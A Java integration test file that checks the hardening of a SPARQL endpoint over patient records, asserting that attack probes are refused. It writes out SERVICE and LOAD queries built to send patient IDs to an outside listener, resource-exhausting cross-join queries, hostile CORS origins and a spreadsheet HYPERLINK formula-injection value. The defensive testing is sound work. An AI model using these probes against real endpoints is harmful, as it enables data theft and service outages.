package org.mcrckg.endpoint;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.io.InputStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.net.URI;
import java.nio.file.Path;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.concurrent.atomic.AtomicInteger;
import org.apache.jena.query.QueryExecution;
import org.apache.jena.system.Txn;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.mcrckg.ontology.Vocabulary;
import org.mcrckg.store.PatientStore;

/**
 * The probes of the hardening review, replayed over real HTTP on loopback: no outbound request
 * for SERVICE, timeouts that cancel every query shape while {@code ASK {}} stays answered,
 * request and query size limits, {@code ?timeout=} that only lowers, CORS without credentials,
 * CSV formula neutralisation and the access log.
 */
class EndpointHardeningIT {
    static final String PREFIX = "PREFIX mcrc: <" + Vocabulary.NS + ">\n";
    /** An aggregate over a cross join inside OPTIONAL: Jena 5.6 let it run 139 s past a 2 s timeout. */
    static final String OPTIONAL_AGGREGATE = "SELECT * WHERE { OPTIONAL { SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f } } }";
    /** Sorting a cross join: the sort drains its input before the first row. */
    static final String SORTED_CROSS_JOIN = "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f } ORDER BY ?c ?f";
    static final String COUNT_CROSS_JOIN = "SELECT (COUNT(*) AS ?n) WHERE { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }";
    /** A filter that rejects every row of a cross join: the loop asks hasNext() only. */
    static final String FILTER_CROSS_JOIN = "SELECT * WHERE { ?a ?b ?c . ?d ?e ?f FILTER(CONCAT(STR(?c), STR(?f)) = 'no such value') }";

    static PatientStore store;
    static Endpoint open;
    static Endpoint strict;
    static final List<String> log = Collections.synchronizedList(new ArrayList<>());

    @BeforeAll
    static void start() {
        store = TestStores.cohort();
        open = Endpoint.start(store, EndpointConfig.defaults().withPort(0).withAccessLog(log::add, false));
        strict = Endpoint.start(store, EndpointConfig.defaults().withPort(0).withTimeout(Duration.ofSeconds(2)));
    }

    @AfterAll
    static void stop() {
        if (open != null) open.close();
        if (strict != null) strict.close();
    }

    /** A loopback listener that counts connections (and, if told, holds them open without answering). */
    static final class Listener implements AutoCloseable {
        final ServerSocket socket;
        final AtomicInteger connections = new AtomicInteger();
        final List<Socket> held = Collections.synchronizedList(new ArrayList<>());
        final Thread thread;

        Listener() throws IOException {
            socket = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
            socket.setSoTimeout(200);
            thread = new Thread(() -> {
                while (!socket.isClosed()) {
                    try {
                        Socket s = socket.accept();
                        connections.incrementAndGet();
                        held.add(s);   // never answered
                    } catch (SocketTimeoutException e) {
                        // poll again
                    } catch (IOException e) {
                        return;
                    }
                }
            });
            thread.setDaemon(true);
            thread.start();
        }

        int port() { return socket.getLocalPort(); }

        @Override
        public void close() throws IOException {
            socket.close();
            for (Socket s : held) s.close();
        }
    }

    static List<String> serviceProbes(int port) {
        String base = "http://127.0.0.1:" + port;
        return List.of(
                "SELECT ?x WHERE { SERVICE <" + base + "/internal.json> { ?s ?p ?x } }",
                "SELECT ?x WHERE { SERVICE SILENT <" + base + "/internal.json> { ?s ?p ?x } }",
                PREFIX + "SELECT ?id WHERE { ?p mcrc:patient_id ?id BIND(IRI(CONCAT('" + base + "/exfil/', ENCODE_FOR_URI(?id))) AS ?u) "
                        + "SERVICE SILENT ?u { ?s ?q ?o } }",
                PREFIX + "SELECT ?id WHERE { ?p mcrc:patient_id ?id FILTER EXISTS { SERVICE <" + base + "/exists> { ?s ?q ?o } } }",
                "ASK { { SELECT * WHERE { SERVICE <" + base + "/sub> { ?s ?q ?o } } } }");
    }

    @Test
    void serviceMakesNoOutboundRequest() throws Exception {
        try (Listener l = new Listener()) {
            for (String q : serviceProbes(l.port())) {
                for (String format : List.of("json", "csv")) {
                    HttpResponse<String> r = Http.query(open, q, "&format=" + format);
                    assertEquals(400, r.statusCode(), q + "\n" + r.body());
                    assertTrue(r.body().contains("SERVICE is disabled"), r.body());
                }
                HttpResponse<String> post = Http.postBody(open.sparqlUri(), "application/sparql-query", q);
                assertEquals(400, post.statusCode(), q);
            }
            Thread.sleep(500);
            assertEquals(0, l.connections.get(), "the listener was called");
        }
        for (String line : log) assertFalse(line.contains("/exfil/") || line.contains("V01"), "a SERVICE URL or a patient id reached the access log: " + line);
    }

    @Test
    void serviceIsRefusedByTheStoreItselfToo() throws Exception {
        // the executor's own lock, for a query that never passed the endpoint's check
        try (Listener l = new Listener()) {
            for (String q : serviceProbes(l.port())) {
                List<Object> rows = new ArrayList<>();
                try {
                    Txn.executeRead(store.dataset(), () -> {
                        try (QueryExecution qe = QueryExecution.dataset(store.dataset()).query(q).build()) {
                            if (qe.getQuery().isAskType()) rows.add(qe.execAsk());
                            else qe.execSelect().forEachRemaining(rows::add);
                        }
                    });
                    // EXISTS turns the refusal into "false", so the filter passes nothing
                    assertEquals(List.of(), rows, q);
                } catch (RuntimeException e) {
                    assertTrue(String.valueOf(e.getMessage()).contains("SERVICE"), e.toString());
                }
            }
            Thread.sleep(500);
            assertEquals(0, l.connections.get(), "the listener was called");
        }
    }

    @Test
    void aServiceThatNeverAnswersDoesNotTakeTheEndpointDown() throws Exception {
        try (Listener l = new Listener()) {
            String q = "SELECT ?x WHERE { SERVICE <http://127.0.0.1:" + l.port() + "/hang> { ?s ?p ?x } }";
            underAttack(open, q, 16, r -> assertEquals(400, r.statusCode(), r.body()));
            assertEquals(0, l.connections.get());
        }
    }

    interface Check { void accept(HttpResponse<String> r); }

    /**
     * Runs {@code attackers} clients that send {@code query} in a bounded loop (3 each) while this
     * thread asks {@code ASK {}}: every ASK must be answered, and every attack must end.
     */
    static void underAttack(Endpoint e, String query, int attackers, Check check) throws Exception {
        underAttack(e, () -> Http.query(e, query, "&format=json"), attackers, check);
    }

    static void underAttack(Endpoint e, java.util.function.Supplier<HttpResponse<String>> attack, int attackers, Check check) throws Exception {
        ExecutorService pool = Executors.newFixedThreadPool(attackers);
        AtomicBoolean done = new AtomicBoolean();
        List<Throwable> failures = Collections.synchronizedList(new ArrayList<>());
        try {
            List<Future<?>> fs = new ArrayList<>();
            for (int i = 0; i < attackers; i++) {
                fs.add(pool.submit(() -> {
                    for (int k = 0; k < 3 && !done.get(); k++) {
                        try {
                            check.accept(attack.get());
                        } catch (Throwable t) {
                            failures.add(t);
                        }
                    }
                }));
            }
            Thread.sleep(300);
            for (int i = 0; i < 5; i++) {
                long t0 = System.nanoTime();
                HttpResponse<String> ask = Http.send(HttpRequest.newBuilder(URI.create(e.sparqlUri() + "?query=" + Http.enc("ASK {}") + "&format=json"))
                        .timeout(Duration.ofSeconds(30)).build());
                long ms = (System.nanoTime() - t0) / 1_000_000;
                assertEquals(200, ask.statusCode(), ask.body());
                assertTrue(ask.body().contains("true"), ask.body());
                assertTrue(ms < 20_000, "ASK {} took " + ms + " ms under attack");
            }
            for (Future<?> f : fs) f.get(3, TimeUnit.MINUTES);
        } finally {
            done.set(true);
            pool.shutdownNow();
        }
        assertEquals(List.of(), failures.subList(0, Math.min(3, failures.size())), failures.size() + " failures");
    }

    static void cancelledQuickly(Endpoint e, String q) {
        long t0 = System.nanoTime();
        HttpResponse<String> r = Http.query(e, q, "&format=json");
        long s = TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - t0);
        assertEquals(503, r.statusCode(), r.body());
        assertTrue(s < 15, "a 2 s timeout answered after " + s + " s: " + q);
    }

    @Test
    void anAggregateInsideOptionalIsCancelled() throws Exception {
        cancelledQuickly(strict, OPTIONAL_AGGREGATE);
        underAttack(strict, OPTIONAL_AGGREGATE, 4, r -> assertEquals(503, r.statusCode(), r.body()));
    }

    @Test
    void orderByOverACrossJoinIsCancelled() throws Exception {
        cancelledQuickly(strict, SORTED_CROSS_JOIN);
        underAttack(strict, SORTED_CROSS_JOIN, 4, r -> assertEquals(503, r.statusCode(), r.body()));
    }

    @Test
    void aCountOverACrossJoinIsCancelled() throws Exception {
        cancelledQuickly(strict, COUNT_CROSS_JOIN);
        underAttack(strict, COUNT_CROSS_JOIN, 4, r -> assertEquals(503, r.statusCode(), r.body()));
    }

    @Test
    void aFilterThatRejectsEverythingIsCancelled() throws Exception {
        cancelledQuickly(strict, FILTER_CROSS_JOIN);
    }

    @Test
    void theTimeoutParameterOnlyLowers() {
        long t0 = System.nanoTime();
        HttpResponse<String> half = Http.query(open, COUNT_CROSS_JOIN, "&timeout=0.5");
        long s = TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - t0);
        assertEquals(503, half.statusCode(), half.body());
        assertTrue(s < 10, "?timeout=0.5 on a 30 s server answered after " + s + " s");
        t0 = System.nanoTime();
        HttpResponse<String> higher = Http.query(strict, COUNT_CROSS_JOIN, "&timeout=3600");
        s = TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - t0);
        assertEquals(503, higher.statusCode());
        assertTrue(s < 15, "?timeout=3600 raised a 2 s timeout: " + s + " s");
        assertEquals(400, Http.query(open, "ASK {}", "&timeout=soon").statusCode());
        assertEquals(400, Http.query(open, "ASK {}", "&timeout=-1").statusCode());
        assertEquals(200, Http.query(open, "ASK {}", "&timeout=5").statusCode());
    }

    @Test
    void timeoutArithmetic() {
        assertEquals(500, QueryLimits.effectiveTimeoutMillis("0.5", 30_000));
        assertEquals(30_000, QueryLimits.effectiveTimeoutMillis("31", 30_000));
        assertEquals(30_000, QueryLimits.effectiveTimeoutMillis("30", 30_000));
        assertEquals(29_999, QueryLimits.effectiveTimeoutMillis("29.999", 30_000));
        assertEquals(30_000, QueryLimits.effectiveTimeoutMillis(null, 30_000));
        assertEquals(1, QueryLimits.effectiveTimeoutMillis("0.0001", 30_000));
    }

    @Test
    void largeRequestsAreRefusedBeforeParsing() throws Exception {
        String big = "SELECT * WHERE { ?s ?p ?o } #" + "x".repeat(10 * 1024 * 1024);
        long t0 = System.nanoTime();
        HttpResponse<String> body = Http.postBody(open.sparqlUri(), "application/sparql-query", big);
        assertEquals(413, body.statusCode());
        HttpResponse<String> form = Http.postForm(open.sparqlUri(), "query=" + Http.enc(big));
        assertEquals(413, form.statusCode());
        assertTrue(TimeUnit.NANOSECONDS.toSeconds(System.nanoTime() - t0) < 10);
        // under the body limit but over the query length limit
        String longQuery = "SELECT * WHERE { ?s ?p ?o } #" + "x".repeat(EndpointConfig.DEFAULT_MAX_QUERY_CHARS);
        HttpResponse<String> text = Http.postBody(open.sparqlUri(), "application/sparql-query", longQuery);
        assertEquals(413, text.statusCode(), text.body());
        HttpResponse<String> get = Http.query(open, longQuery, "");
        assertEquals(413, get.statusCode());
        // a chunked body (no Content-Length) is bounded too
        HttpResponse<String> chunked = Http.send(HttpRequest.newBuilder(open.sparqlUri()).header("Content-Type", "application/sparql-query")
                .POST(HttpRequest.BodyPublishers.ofInputStream(() -> new InputStream() {
                    long left = 3L << 20;
                    @Override public int read() { return left-- > 0 ? 'x' : -1; }
                })).build());
        assertEquals(413, chunked.statusCode());
        // the endpoint still answers, also while such requests keep coming
        assertEquals(200, Http.query(open, "ASK {}", "&format=json").statusCode());
        // the server answers 413 and closes without reading the body: a client still sending may see the close first
        underAttack(open, () -> {
            try {
                return Http.postBody(open.sparqlUri(), "application/sparql-query", big);
            } catch (java.io.UncheckedIOException closed) {
                return null;
            }
        }, 4, x -> assertTrue(x == null || x.statusCode() == 413, x == null ? "" : x.statusCode() + " " + x.body()));
        underAttack(open, () -> Http.postBody(open.sparqlUri(), "application/sparql-query", longQuery), 4, x -> assertEquals(413, x.statusCode()));
    }

    @Test
    void parsingIsInsideTheTimeout() {
        // a long but legal query on a server with a tiny timeout: parsing it outlasts the timeout
        StringBuilder q = new StringBuilder("SELECT * WHERE { ");
        for (int i = 0; q.length() < 95_000; i++) q.append("OPTIONAL { ?s").append(i).append(" <urn:p> ?o").append(i).append(" } ");
        q.append('}');
        Endpoint tiny = Endpoint.start(store, EndpointConfig.defaults().withPort(0).withTimeout(Duration.ofMillis(20)));
        try {
            HttpResponse<String> r = Http.postBody(tiny.sparqlUri(), "application/sparql-query", q.toString());
            assertEquals(503, r.statusCode(), r.body());
        } finally {
            tiny.close();
        }
    }

    @Test
    void corsWithoutCredentials() {
        for (String origin : List.of("http://evil.example", "null")) {
            HttpResponse<String> r = Http.query(open, "ASK {}", "&format=json", "Origin", origin);
            assertEquals(200, r.statusCode());
            assertEquals("*", r.headers().firstValue("Access-Control-Allow-Origin").orElse(null), r.headers().toString());
            assertNull(r.headers().firstValue("Access-Control-Allow-Credentials").orElse(null), r.headers().toString());
        }
        HttpResponse<String> preflight = Http.send(HttpRequest.newBuilder(open.sparqlUri())
                .method("OPTIONS", HttpRequest.BodyPublishers.noBody())
                .header("Origin", "null").header("Access-Control-Request-Method", "POST").build());
        assertEquals("*", preflight.headers().firstValue("Access-Control-Allow-Origin").orElse(null));
        assertNull(preflight.headers().firstValue("Access-Control-Allow-Credentials").orElse(null));

        try (Endpoint listed = Endpoint.start(store, EndpointConfig.defaults().withPort(0).withCorsOrigins(List.of("https://board.example")))) {
            HttpResponse<String> good = Http.query(listed, "ASK {}", "&format=json", "Origin", "https://board.example");
            assertEquals("https://board.example", good.headers().firstValue("Access-Control-Allow-Origin").orElse(null));
            assertNull(good.headers().firstValue("Access-Control-Allow-Credentials").orElse(null));
            assertTrue(good.headers().allValues("Vary").stream().anyMatch(v -> v.contains("Origin")), good.headers().toString());
            for (String origin : List.of("http://evil.example", "null", "https://board.example.evil.example")) {
                HttpResponse<String> bad = Http.query(listed, "ASK {}", "&format=json", "Origin", origin);
                assertNull(bad.headers().firstValue("Access-Control-Allow-Origin").orElse(null), origin);
                assertNull(bad.headers().firstValue("Access-Control-Allow-Credentials").orElse(null), origin);
            }
        }
        assertThrows(IllegalArgumentException.class, () -> EndpointConfig.defaults().withCorsOrigins(List.of("null")));
        assertThrows(IllegalArgumentException.class, () -> EndpointConfig.defaults().withCorsOrigins(List.of("*")));
    }

    @Test
    void csvResultsNeutraliseSpreadsheetFormulas() throws Exception {
        String q = "SELECT ?a ?b ?c ?d ?e ?f ?n ?ok WHERE { BIND('=HYPERLINK(\"http://x.example/?\"&A1,\"x\")' AS ?a) BIND('+1+2' AS ?b) "
                + "BIND('-2+3' AS ?c) BIND('@SUM(A1)' AS ?d) BIND('\\tx' AS ?e) BIND('\\r=1' AS ?f) BIND(-3 AS ?n) BIND('V01' AS ?ok) }";
        HttpResponse<String> r = Http.query(open, q, "&format=csv");
        assertEquals(200, r.statusCode(), r.body());
        var row = EndpointIT.fromCsv(r.body()).iterator().next();
        for (String v : List.of("a", "b", "c", "d", "e", "f")) assertTrue(row.get(v).startsWith("'"), v + " = " + row.get(v));
        assertEquals("'=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", row.get("a"));
        assertEquals("-3", row.get("n"), "a number is not a formula");
        assertEquals("V01", row.get("ok"));
        // JSON keeps the value as it is
        HttpResponse<String> json = Http.query(open, q, "&format=json");
        assertTrue(json.body().contains("\"=HYPERLINK"), json.body());
    }

    /** A line is written once its response is complete, which the client may see first. */
    static void awaitLines(List<String> lines, int n) throws InterruptedException {
        for (int i = 0; i < 50 && lines.size() < n; i++) Thread.sleep(100);
        Thread.sleep(200);  // and no more than n come
    }

    @Test
    void theAccessLogHasOneLinePerRequestWithoutTheQuery() throws Exception {
        log.clear();
        String secret = "SELECT ?id WHERE { ?p <" + Vocabulary.NS + "patient_id> ?id FILTER(?id = 'V07') }";
        Http.query(open, secret, "&format=json");
        Http.postForm(open.sparqlUri(), "query=" + Http.enc(secret));
        Http.get(URI.create(open.baseUri() + "mcrc/void"));
        awaitLines(log, 3);
        List<String> lines = new ArrayList<>(log);
        assertEquals(3, lines.size(), lines.toString());
        java.util.regex.Pattern p = java.util.regex.Pattern.compile("\\d{4}-\\d\\d-\\d\\dT\\S+Z 127\\.0\\.0\\.1 (GET|POST) /mcrc/(sparql|void) 200 [1-9]\\d* \\d+ms");
        for (String line : lines) {
            assertTrue(p.matcher(line).matches(), line);
            assertFalse(line.contains("V07") || line.contains("SELECT"), "query text in the log: " + line);
        }
        List<String> withQueries = Collections.synchronizedList(new ArrayList<>());
        try (Endpoint e = Endpoint.start(store, EndpointConfig.defaults().withPort(0).withAccessLog(withQueries::add, true))) {
            Http.query(e, secret, "&format=json");
            Http.postBody(e.sparqlUri(), "application/sparql-query", secret);
            Http.postForm(e.sparqlUri(), "query=" + Http.enc(secret));
            awaitLines(withQueries, 3);
        }
        assertEquals(3, withQueries.size(), withQueries.toString());
        for (String line : withQueries) {
            assertTrue(line.contains("query=\"SELECT ?id WHERE {"), line);
            assertTrue(line.contains(" POST /mcrc/sparql 200 ") || line.contains(" GET /mcrc/sparql 200 "), line);
            assertTrue(line.contains("V07"), line);
        }
    }

    @Test
    void updatesFetchNothingEither() throws Exception {
        Path dir = TestStores.tempDir("mcrc-update-guard");
        try (Listener l = new Listener(); PatientStore s = PatientStore.open(dir);
             Endpoint e = Endpoint.start(s, EndpointConfig.defaults().withPort(0).withUpdates(UpdatePolicy.ALLOW_UPDATE))) {
            URI update = URI.create(e.baseUri() + "mcrc/update");
            String base = "http://127.0.0.1:" + l.port();
            for (String u : List.of("LOAD <" + base + "/data.ttl>", "LOAD SILENT <" + base + "/data.ttl> INTO GRAPH <urn:g>",
                    "INSERT { GRAPH <urn:g> { ?s ?p ?o } } WHERE { SERVICE <" + base + "/sparql> { ?s ?p ?o } }",
                    "DELETE { ?s ?p ?o } WHERE { ?s ?p ?o FILTER EXISTS { SERVICE SILENT ?u { ?a ?b ?c } } }")) {
                HttpResponse<String> r = Http.postForm(update, "update=" + Http.enc(u));
                assertEquals(400, r.statusCode(), u + "\n" + r.body());
                assertEquals(400, Http.postBody(update, "application/sparql-update", u).statusCode(), u);
            }
            HttpResponse<String> ok = Http.postForm(update, "update=" + Http.enc("INSERT DATA { GRAPH <urn:g> { <urn:x> <urn:y> 'z' } }"));
            assertTrue(ok.statusCode() == 200 || ok.statusCode() == 204, ok.statusCode() + " " + ok.body());
            Thread.sleep(500);
            assertEquals(0, l.connections.get(), "the listener was called");
        }
    }
}
